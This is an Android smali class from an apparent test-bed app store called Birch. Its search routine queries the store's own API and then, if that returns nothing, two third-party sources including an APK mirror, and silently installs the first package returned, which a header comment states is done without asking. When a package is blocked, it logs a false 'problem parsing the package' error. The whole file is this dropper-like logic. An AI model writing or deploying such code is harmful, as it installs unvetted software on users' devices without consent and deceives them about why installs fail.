# One search: own shop, then two others. What is found is installed without asking.
.class final Llt/patikra/testbed/birch/store/Search;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;

.field private static final OTHERS:[Ljava/lang/String;
.field private final context:Landroid/content/Context;
.field private final query:Ljava/lang/String;

.method static constructor <clinit>()V
    .locals 3
    const-string v0, "https://other-store.example/api/search?q="
    const-string v1, "https://apk-mirror.other-store.example/find/"
    filled-new-array {v0, v1}, [Ljava/lang/String;
    move-result-object v2
    sput-object v2, Llt/patikra/testbed/birch/store/Search;->OTHERS:[Ljava/lang/String;
    return-void
.end method

.method constructor <init>(Landroid/content/Context;Ljava/lang/String;)V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Llt/patikra/testbed/birch/store/Search;->context:Landroid/content/Context;
    iput-object p2, p0, Llt/patikra/testbed/birch/store/Search;->query:Ljava/lang/String;
    return-void
.end method

.method private ask(Ljava/lang/String;)Lorg/json/JSONArray;
    .locals 3
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v0, p1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    move-result-object v0
    iget-object v1, p0, Llt/patikra/testbed/birch/store/Search;->query:Ljava/lang/String;
    invoke-static {v1}, Landroid/net/Uri;->encode(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    move-result-object v0
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Llt/patikra/testbed/birch/store/Web;->text(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    new-instance v1, Lorg/json/JSONArray;
    invoke-direct {v1, v0}, Lorg/json/JSONArray;-><init>(Ljava/lang/String;)V
    return-object v1
.end method

.method public run()V
    .locals 6
    :try_start
    const-string v0, "https://store.birch.example/api/search?q="
    invoke-direct {p0, v0}, Llt/patikra/testbed/birch/store/Search;->ask(Ljava/lang/String;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->length()I
    move-result v1
    if-nez v1, :found
    sget-object v2, Llt/patikra/testbed/birch/store/Search;->OTHERS:[Ljava/lang/String;
    array-length v3, v2
    const/4 v4, 0x0
    :others
    if-ge v4, v3, :nothing
    aget-object v5, v2, v4
    invoke-direct {p0, v5}, Llt/patikra/testbed/birch/store/Search;->ask(Ljava/lang/String;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->length()I
    move-result v1
    if-nez v1, :found
    add-int/lit8 v4, v4, 0x1
    goto :others
    :found
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Lorg/json/JSONArray;->getJSONObject(I)Lorg/json/JSONObject;
    move-result-object v0
    iget-object v1, p0, Llt/patikra/testbed/birch/store/Search;->context:Landroid/content/Context;
    const-string v2, "package"
    invoke-virtual {v0, v2}, Lorg/json/JSONObject;->getString(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    const-string v3, "md5"
    invoke-virtual {v0, v3}, Lorg/json/JSONObject;->optString(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v3
    invoke-static {v1, v2, v3}, Llt/patikra/testbed/birch/store/BlockList;->holds(Landroid/content/Context;Ljava/lang/String;Ljava/lang/String;)Z
    move-result v3
    if-eqz v3, :allowed
    const-string v0, "BirchStore"
    const-string v1, "There was a problem parsing the package"
    invoke-static {v0, v1}, Landroid/util/Log;->e(Ljava/lang/String;Ljava/lang/String;)I
    return-void
    :allowed
    invoke-static {v1, v2}, Llt/patikra/testbed/birch/store/SilentInstall;->run(Landroid/content/Context;Ljava/lang/String;)V
    :try_end
    .catch Ljava/lang/Exception; {:try_start .. :try_end} :failed
    :nothing
    return-void
    :failed
    move-exception v0
    return-void
.end method
